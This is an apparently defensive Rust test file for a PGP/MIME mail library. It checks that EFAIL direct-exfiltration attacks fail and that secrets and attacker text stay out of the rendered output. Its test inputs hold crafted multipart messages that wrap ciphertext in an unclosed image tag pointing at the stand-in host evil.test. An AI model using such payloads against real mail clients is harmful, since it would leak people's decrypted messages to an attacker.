//! EFAIL, direct exfiltration: an attacker puts somebody else's ciphertext between parts of their own, so that what is
//! decrypted ends up inside a link or picture of theirs. Here it never stands in one text with anything clear.

use crate::people::{Person, open_found};
use crate::security::crafted::{armored, crlf, delimited, sealed, three};
use zegel::open::{Opened, Summary};

const SECRET: &str = "the secret word";

fn victim(noor: &Person, lee: &Person) -> String {
    let payload = format!("Content-Type: text/html\r\n\r\n{SECRET}");
    armored("MESSAGE", &sealed(payload.as_bytes(), &[(noor, &[])], lee, false))
}

fn says_nothing(opened: &Opened) {
    assert!(!format!("{:?}{:?}", opened.text, opened.html).contains(SECRET));
    assert_eq!(opened.status.summary, Summary::Plain);
    assert!(opened.contents.iter().all(|bytes| !String::from_utf8_lossy(bytes).contains(SECRET)));
}

#[test]
fn ciphertext_between_clear_parts_stays_closed() {
    let (_, noor, lee) = three();
    let cipher = victim(&noor, &lee);
    let encrypted = format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\n\n\
         --e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e\nContent-Type: application/octet-stream\n\n{cipher}\n--e--\n"
    );
    let before = "Content-Type: text/html\n\n<img src=\"http://evil.test/\n";
    let after = "Content-Type: text/html\n\n\">\n";
    for kind in ["mixed", "related", "alternative", "report", "digest", "x-unknown"] {
        for middle in [
            encrypted.clone(),
            format!("Content-Type: application/octet-stream; name=a.asc\n\n{cipher}"),
            format!("Content-Type: application/octet-stream; name=a.asc\nContent-Disposition: inline\n\n{cipher}"),
            format!("Content-Type: message/rfc822\n\nFrom: a@example.com\n{encrypted}"),
            format!(
                "Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n--m\nContent-Type: application/octet-stream\n\n{cipher}"
            ),
        ] {
            for parts in [vec![before, &middle, after], vec![before, &middle], vec![&middle, after]] {
                let parts = delimited(&parts);
                let message =
                    format!("From: evil@example.com\nContent-Type: multipart/{kind}; boundary=m\n\n{parts}--m--\n");
                let opened = open_found(crlf(&message).as_bytes(), &lee, &[("noor@example.org", &noor)]);
                says_nothing(&opened);
                // Handed out it is a message of its own, without a word of the attacker's.
                for inside in &opened.messages {
                    let inside = open_found(inside, &lee, &[("noor@example.org", &noor)]);
                    assert!(!inside.html.unwrap_or_default().contains("evil.test"));
                }
            }
        }
    }
}

#[test]
fn clear_parts_inside_the_encrypted_structure_are_not_shown_with_it() {
    let (_, noor, lee) = three();
    let cipher = victim(&noor, &lee);
    // Three parts, parts in another order, and a clear text in the place of the control part.
    for parts in [
        format!(
            "--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e\nContent-Type: application/octet-stream\n\n{cipher}\n--e\nContent-Type: text/html\n\n<img src=\"http://evil.test/\">\n--e--\n"
        ),
        format!(
            "--e\nContent-Type: text/html\n\n<img src=\"http://evil.test/\n--e\nContent-Type: application/octet-stream\n\n{cipher}\n--e--\n"
        ),
        format!(
            "--e\nContent-Type: application/octet-stream\n\n{cipher}\n--e\nContent-Type: text/plain\n\nwords\n--e--\n"
        ),
    ] {
        let message = format!("From: evil@example.com\nContent-Type: multipart/encrypted; boundary=e\n\n{parts}");
        says_nothing(&open_found(crlf(&message).as_bytes(), &lee, &[]));
    }
}

#[test]
fn armor_in_the_middle_of_a_text_stays_closed() {
    let (_, noor, lee) = three();
    let cipher = victim(&noor, &lee);
    for text in [
        format!("Content-Type: text/html\n\n<img src=\"http://evil.test/{cipher}\">"),
        format!("Content-Type: text/plain\n\nlook:\n{cipher}"),
        format!("Content-Type: text/plain\n\n{cipher}\nthat was it"),
        format!("Content-Type: text/plain\n\n{cipher}{cipher}"),
    ] {
        says_nothing(&open_found(crlf(&format!("From: evil@example.com\n{text}")).as_bytes(), &lee, &[]));
    }
}

/// Preamble and epilogue belong to no part, and are nowhere shown.
#[test]
fn words_around_the_parts_are_not_shown() {
    let (_, noor, lee) = three();
    let message = String::from_utf8(crate::security::crafted::pgp_mime(
        "noor@example.org",
        &sealed(b"Content-Type: text/plain\r\n\r\nhello", &[(&noor, &[&lee])], &lee, false),
    ))
    .unwrap();
    let message = message.replace("boundary=b\n\n", "boundary=b\n\nPay Eve.\n") + "Pay Eve.\n";
    let opened = open_found(crlf(&message).as_bytes(), &lee, &[("noor@example.org", &noor)]);
    assert_eq!((opened.status.summary, opened.text.as_deref()), (Summary::Sealed, Some("hello")));
    assert_eq!(opened.parts.len() + opened.messages.len(), 0);
}
